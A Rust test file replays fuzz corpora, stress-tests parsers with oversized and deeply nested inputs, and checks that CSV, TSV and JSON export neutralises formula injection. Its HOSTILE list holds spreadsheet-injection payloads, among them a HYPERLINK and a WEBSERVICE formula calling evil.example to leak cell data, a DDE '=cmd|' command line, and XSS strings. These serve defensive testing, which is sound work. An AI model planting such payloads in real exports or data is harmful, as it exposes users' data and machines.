//! What the fuzz targets hold, held of the corpus that is kept in `fuzz/corpus`, of texts
//! that are too large to keep, and of what a spreadsheet could take for a formula.

#[path = "../../../fuzz/checks/mod.rs"]
mod checks;

use checks::decoder::cells::{hold_no_formula, read_csv};
use checks::{config, decoder, error_bodies, query, route};
use domain::export::{csv_cell, csv_row, json_string, text_cell};
use std::panic::catch_unwind;
use std::path::Path;
use std::{fs, io};

/// So many files a target has at least: fewer would be an accident.
const FEWEST: usize = 15;

const KEYS: usize = 10_000;
const LONG: usize = 1 << 20;

/// The files of a target, each with its name.
fn files(target: &str) -> io::Result<Vec<(String, Vec<u8>)>> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus").join(target);
    let mut found = Vec::new();
    for entry in fs::read_dir(folder)? {
        let entry = entry?;
        found.push((entry.file_name().to_string_lossy().into_owned(), fs::read(entry.path())?));
    }
    found.sort();
    Ok(found)
}

/// Holds a check of every file of a target. All that break it are told, not only the first.
#[track_caller]
fn replay(target: &str, check: fn(&[u8])) {
    let files = files(target);
    assert!(files.is_ok(), "the corpus of {target}: {:?}", files.err());
    let files = files.unwrap_or_default();
    assert!(files.len() >= FEWEST, "{target} has only {} files", files.len());
    let breaks = |bytes: &[u8]| catch_unwind(|| check(bytes)).is_err();
    let broken: Vec<&String> =
        files.iter().filter(|(_, bytes)| breaks(bytes)).map(|(name, _)| name).collect();
    assert!(broken.is_empty(), "of {} files of {target}, {broken:?} break the check", files.len());
    println!("{target}: {} files hold", files.len());
}

#[test]
fn the_decoder_holds_of_its_corpus() {
    replay("decoder", decoder::check);
}

#[test]
fn queries_hold_of_their_corpus() {
    replay("query", query::check);
}

#[test]
fn routes_hold_of_their_corpus() {
    replay("route", route::check);
}

#[test]
fn configurations_hold_of_their_corpus() {
    replay("config", config::check);
}

#[test]
fn error_bodies_hold_of_their_corpus() {
    replay("error_bodies", error_bodies::check);
}

/// An object of many keys, each with this value.
fn wide(value: &str) -> String {
    let fields: Vec<String> = (0..KEYS).map(|key| format!("\"key-{key}\":{value}")).collect();
    format!("{{{}}}", fields.join(","))
}

fn deep(depth: usize, open: &str, close: &str) -> String {
    format!("{}1{}", open.repeat(depth), close.repeat(depth))
}

fn page(record: &str) -> String {
    format!("{{\"count\":1,\"results\":[{record}]}}")
}

#[test]
fn a_record_of_any_size_and_depth_is_held_as_it_came() {
    for record in [
        format!("{{\"id\":\"long\",\"notes\":\"{}\"}}", "<b>\u{202e}é\\ud800,=".repeat(LONG / 16)),
        format!("{{\"id\":\"one word\",\"status\":\"{}\"}}", "w".repeat(LONG)),
        format!("{{\"id\":\"wide\",\"details\":{}}}", wide("1e999")),
        wide("{\"__proto__\":-0}"),
        format!("{{\"id\":\"deep\",\"details\":{}}}", deep(KEYS, "{\"a\":", "}")),
        format!("{{\"issues\":{}}}", deep(KEYS, "[", "]")),
        format!("{{\"id\":\"digits\",\"details\":{{\"a\":{}}}}}", "9".repeat(LONG)),
        format!("{{{}}}", vec!["\"id\":\"same\""; KEYS].join(",")),
    ] {
        decoder::check(page(&record).as_bytes());
        // Cut short, it is no page.
        decoder::check(&page(&record).as_bytes()[..record.len()]);
    }
}

#[test]
fn a_query_of_any_length_is_read_or_refused() {
    for text in [
        "word".repeat(LONG / 4),
        "\u{202e}\u{1f600}".repeat(LONG / 8),
        "\"".repeat(LONG),
        "*".repeat(LONG),
        "-".repeat(LONG),
        format!("status:{}", "a,".repeat(KEYS)),
        format!("status:{}", "\"a\"\"b\",".repeat(KEYS)),
        "a ".repeat(KEYS),
        format!("{}>1", "details.".repeat(KEYS)),
        format!("cpu>{}", "9".repeat(LONG)),
        format!("after:{}d", "0".repeat(LONG)),
    ] {
        query::check(text.as_bytes());
    }
}

#[test]
fn an_address_of_any_length_is_read() {
    for text in [
        format!("/devices/{}", "%FF".repeat(LONG / 8)),
        format!("/{}", "a/".repeat(LONG / 2)),
        format!("/labels?{}", (0..KEYS).map(|id| format!("device={id}&")).collect::<String>()),
        format!(
            "/diagnostics?cols={}",
            (0..500).map(|path| format!("details.{path}~9,")).collect::<String>()
        ),
        format!("/diagnostics?sort={}", "-details.!e!c!t,".repeat(KEYS)),
        format!("/diagnostics?q={}", "%22".repeat(LONG / 8)),
        format!("/new?notes={}", "\u{202e}".repeat(LONG / 8)),
        format!("/?{}", "wall=states&".repeat(KEYS)),
        "/sign-in?next=".repeat(LONG / 16),
    ] {
        route::check(text.as_bytes());
    }
}

#[test]
fn a_configuration_of_any_size_is_read_or_refused() {
    for text in [
        format!("{{\"title\":\"{}\"}}", "\u{202e}<b>".repeat(LONG / 8)),
        format!("{{\"classes\":{}}}", wide("\"critical\"")),
        format!("{{\"measurements\":{}}}", wide("{\"bad\":\"low\",\"warning\":2,\"critical\":1}")),
        format!("{{\"measurements\":{}}}", deep(KEYS, "{\"a\":", "}")),
        format!("{{\"page_size\":{}}}", "9".repeat(LONG)),
        wide("1"),
        deep(KEYS, "[", "]"),
        " ".repeat(LONG),
    ] {
        config::check(text.as_bytes());
    }
}

#[test]
fn every_value_of_a_configuration_can_be_anything() {
    const KEYS_OF_ALL: [&str; 17] = [
        "api_base",
        "title",
        "page_size",
        "concurrency",
        "api_base_editable",
        "wrap_body",
        "client_ref",
        "timeout_seconds",
        "settle_seconds",
        "live_check_timeout_seconds",
        "grace_minutes",
        "full_read_minutes",
        "idle_minutes",
        "classes",
        "measurements",
        "rules",
        "auto_reports_per_hour",
    ];
    const RULE: [&str; 12] = [
        "when", "name", "severity", "on", "key", "above", "until", "checks", "of", "clear", "device", "other",
    ];
    let texts = HOSTILE.iter().map(|text| serde_json::to_string(text).unwrap_or_default());
    let others = ["null", "true", "[]", "{}", "-1", "1.5", "1e999", "4294967296", "\"\\ud800\"", "[[[[1]]]]"];
    let values: Vec<String> = texts.chain(others.map(str::to_owned)).collect();
    for value in &values {
        for key in KEYS_OF_ALL {
            config::check(format!("{{\"{key}\":{value}}}").as_bytes());
        }
        for key in ["unit", "bad", "warning", "critical", "other"] {
            config::check(format!("{{\"measurements\":{{\"x\":{{\"{key}\":{value}}}}}}}").as_bytes());
        }
        config::check(format!("{{\"classes\":{{\"x\":{value}}}}}").as_bytes());
        config::check(format!("{{\"rules\":{{\"x\":{value}}}}}").as_bytes());
        for key in RULE {
            let whole = "\"when\":\"measurement\",\"key\":\"k\",\"above\":1";
            config::check(format!("{{\"rules\":{{\"x\":{{{whole},\"{key}\":{value}}}}}}}").as_bytes());
        }
        config::check(format!("{{\"measurements\":{{\"x\":{value}}}}}").as_bytes());
        config::check(value.as_bytes());
    }
}

#[test]
fn an_error_body_of_any_size_is_told_as_far_as_it_says_something() {
    for body in [
        format!("{{\"detail\":\"{}\"}}", "\u{202e}<b>".repeat(LONG / 8)),
        wide("[\"Enter a valid email.\"]"),
        wide("1e999"),
        deep(KEYS, "[", "]"),
        deep(100, "{\"details\":[", "]}"),
        "Bad luck. ".repeat(LONG / 10),
        format!("<html>{}", "<p>502</p>".repeat(LONG / 10)),
        " ".repeat(LONG),
    ] {
        for head in ["400\napplication/json\n\n", "403\ntext/HTML\n\n", "503\n\n99999999999999999\n"] {
            error_bodies::check([head, &body].concat().as_bytes());
        }
    }
}

/// What somebody could send so that whoever opens an exported file gets more than a text.
const HOSTILE: [&str; 48] = [
    "",
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"ok\")",
    "=cmd|'/C calc'!A0",
    "=WEBSERVICE(\"https://evil.example/\")",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "--1",
    "-",
    "-e1",
    "-1e",
    "-.5",
    "-0x1F",
    "-1 000",
    "-NaN",
    "-inf",
    "+infinity",
    "@SUM(1,1)",
    "＝1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n",
    "\u{b}=1",
    "\u{0}=1",
    "\u{1b}[31m=1",
    "\u{a0}=1",
    "\u{2028}=1",
    "   =1+1",
    "'=1+1",
    "\"=1+1\"",
    "\"",
    "\"\"",
    "a\",=1+1,\"b",
    "a\"\r\n=1+1,b",
    "a;=1+1;b",
    "a\t=1+1",
    "a,b,c",
    "|",
    "%0D%0A=1",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "__proto__",
    "\u{202e}1+1=",
    "a\u{0}b",
    "\u{fffd}",
];

/// What a plain reading of numbers has to leave as it is.
const NUMBERS: [&str; 8] = ["-5", "+5", "0", "-0", "1e3", "-1.25E-7", "+0.5", "-99999999999999999999999"];

#[test]
fn no_hostile_text_becomes_a_formula_or_another_field() {
    let long = [&"=1+1,\"\r\n".repeat(KEYS), "\u{202e}"].concat();
    let mut texts: Vec<&str> = HOSTILE.into_iter().chain(NUMBERS).collect();
    texts.push(&long);
    // Each alone, and between others.
    let mut rows: Vec<Vec<&str>> = texts.iter().map(|text| vec![*text, "b", *text]).collect();
    rows.push(texts);
    let mut file = String::new();
    rows.iter().for_each(|row| csv_row(&mut file, row.iter().copied()));
    let read = read_csv(&file).expect("CSV");
    assert_eq!(read.len(), rows.len());
    for (cells, texts) in read.iter().zip(&rows) {
        assert_eq!(cells.len(), texts.len(), "{texts:?} became {cells:?}");
        for (cell, text) in cells.iter().zip(texts) {
            hold_no_formula(cell);
            assert!(cell == text || cell.strip_prefix('\'') == Some(text), "{text:?} became {cell:?}");
        }
    }
}

#[test]
fn a_number_stays_a_number() {
    for number in NUMBERS {
        let mut cell = String::new();
        csv_cell(&mut cell, number);
        assert_eq!(cell, number);
    }
}

#[test]
fn hostile_texts_between_tabs_stay_in_their_cells_and_in_json_stay_what_they_are() {
    for text in HOSTILE {
        let (mut cell, mut json) = (String::new(), String::new());
        text_cell(&mut cell, text);
        assert!(!cell.contains(['\t', '\r', '\n', '\u{2028}']), "{cell:?}");
        json_string(&mut json, text);
        assert_eq!(serde_json::from_str::<String>(&json).ok().as_deref(), Some(text));
        assert!(!json.contains(char::is_control), "{json:?}");
    }
}
